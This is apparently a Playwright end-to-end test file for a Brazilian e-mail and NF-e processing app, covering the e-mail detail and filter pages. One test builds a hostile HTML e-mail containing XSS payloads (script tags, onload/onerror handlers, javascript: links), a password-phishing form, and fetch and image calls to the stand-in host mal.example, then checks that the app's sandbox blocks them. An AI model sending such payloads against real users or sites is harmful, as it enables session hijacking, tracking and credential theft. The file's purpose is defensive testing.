import { expect, test } from "@playwright/test";
import { covers } from "../support/routes.ts";
import { playScenarios, putEmail, saveScreenshot, signIn, waitEmail, waitNota } from "../support/sandbox.ts";

// In one worker: its scenarios are played once.
test.describe.configure({ mode: "default" });

// Sent at the start, so that one mailbox poll brings what each test opens.
let received: Record<"zip-com-tres-notas" | "email-sem-dfe", string[]>;
test.beforeAll(async ({ request }) => {
  received = await playScenarios({ request }, ["zip-com-tres-notas", "email-sem-dfe"]);
  await putEmail({ request }, ATTACK);
});

test(
  "an e-mail shows the outcome of every part, its archives as trees, and links to its notas",
  covers("/emails", "/email/:emailId"),
  async ({ page }) => {
    const token = await signIn(page);
    const [chave = ""] = received["zip-com-tres-notas"];
    const { numeroNota } = await waitNota(page, { token, chave });
    await page.goto(`/emails?texto=${numeroNota}&data=tudo`);
    const row = page.locator("[data-linha]").filter({ hasText: "Notas fiscais" });
    // Another test may have advanced the sandbox's clock past the browser's midnight.
    await expect(page.getByRole("heading", { name: /Hoje|-feira|sábado|domingo/ })).toBeVisible();
    await row.getByRole("link").click();

    await expect(page).toHaveURL(/\/email\//);
    const parts = page.getByRole("region", { name: "Partes e destino" });
    await expect(parts).toContainText("3 documentos extraídos");
    await expect(parts).toContainText("Guardado, aberto nesta página");
    await expect(parts).toContainText("Aberto, 3 arquivos");
    await expect(parts).toContainText("Confirmada pela SEFAZ");
    const [original] = await Promise.all([
      page.waitForEvent("download"),
      page.getByRole("link", { name: "E-mail original" }).first().click(),
    ]);
    expect(original.suggestedFilename()).toMatch(/\.eml$/);
    const [part] = await Promise.all([
      page.waitForEvent("download"),
      parts.getByRole("link", { name: /^Baixar .*\.zip$/ }).click(),
    ]);
    expect(part.suggestedFilename()).toMatch(/\.zip$/);

    await parts
      .getByRole("link", { name: /^Abrir NF-e/ })
      .first()
      .click();
    await expect(page).toHaveURL(/\/nota\/.*type=E/);
    await page.getByRole("tab", { name: "E-mail de origem" }).click();
    await expect(page.getByRole("tabpanel").getByRole("link").first()).toHaveAttribute("href", /\/email\//);
  },
);

test(
  "a filter by attachment type and outcome narrows the list of e-mails",
  covers("/filtro/:type"),
  async ({ page }) => {
    const token = await signIn(page);
    await waitEmail(page, token, "Novidades da semana");
    await page.goto("/filtro/emails?data=tudo");
    await page.getByLabel("Assunto").fill("Novidades da semana");
    await page.getByRole("combobox", { name: "Tipo de anexo" }).selectOption("PDF");
    await page.getByRole("combobox", { name: "Resultado dos anexos" }).selectOption("sem DF-e");
    await saveScreenshot(page, "filtro-emails-anexo");
    await page.getByRole("button", { name: "Aplicar" }).click();
    await expect(page).toHaveURL(/tipo=pdf/);
    const chips = page.getByRole("list", { name: "Filtros ativos" });
    await expect(chips).toContainText("Tipo de anexo: PDF");
    await page.reload();
    await expect(page.locator("[data-linha]").first()).toContainText("Novidades da semana");
  },
);

const ATTACK = [
  "From: Atacante <atacante@mal.example>",
  "To: notas@demo.example",
  "Subject: Teste de carta hostil",
  "Message-ID: <hostil-1@mal.example>",
  "MIME-Version: 1.0",
  "Content-Type: text/html; charset=utf-8",
  "",
  "<html><head><meta http-equiv='refresh' content='0;url=https://mal.example/r'>",
  "<style>@import 'https://mal.example/a.css'; body{background:url(https://mal.example/b.png)}</style>",
  "<base href='https://mal.example/'></head><body onload='top.__xss=1'>",
  "<p>Texto que fica</p><script>top.__xss=1;fetch('https://mal.example/f')</script>",
  "<img src='https://mal.example/p.gif' onerror='top.__xss=1'><img src='https://mal.example/q.gif'>",
  "<svg onload='top.__xss=1'></svg><iframe src='https://mal.example/i'></iframe>",
  "<form action='https://mal.example/s'><input name='senha'><button>Entrar</button></form>",
  "<a href='javascript:top.__xss=1'>clique</a>",
  "<div style='position:fixed;inset:0;background:url(https://mal.example/c.png)'>capa</div>",
  "</body></html>",
  "",
].join("\r\n");

test("a hostile e-mail runs no script and makes no request", async ({ page, baseURL }) => {
  const outside: string[] = [];
  const dialogs: string[] = [];
  page.on("request", (request) => {
    const { protocol, origin } = new URL(request.url());
    if (/^https?:$/.test(protocol) && origin !== new URL(baseURL ?? "").origin) outside.push(request.url());
  });
  page.on("dialog", (dialog) => {
    dialogs.push(dialog.message());
    void dialog.dismiss();
  });
  const token = await signIn(page);
  const { id } = await waitEmail(page, token, "Teste de carta hostil");
  await page.goto(`/email/${id}`);
  const email = page.frameLocator("iframe[title='Corpo do e-mail']");
  await expect(email.getByText("Texto que fica")).toBeVisible();
  await expect(page.getByText("Imagens remotas bloqueadas (2)")).toBeVisible();
  await expect(page.locator("iframe")).toHaveAttribute(
    "sandbox",
    "allow-popups allow-popups-to-escape-sandbox",
  );
  await expect(email.locator("script, svg, iframe, form, input, style:not(head style), base")).toHaveCount(0);
  await email.getByText("clique").click();
  await page.waitForTimeout(500);
  expect(await page.evaluate(() => "__xss" in window)).toBe(false);
  expect(dialogs).toEqual([]);
  expect(outside).toEqual([]);
  expect(page.context().pages()).toHaveLength(1);
});
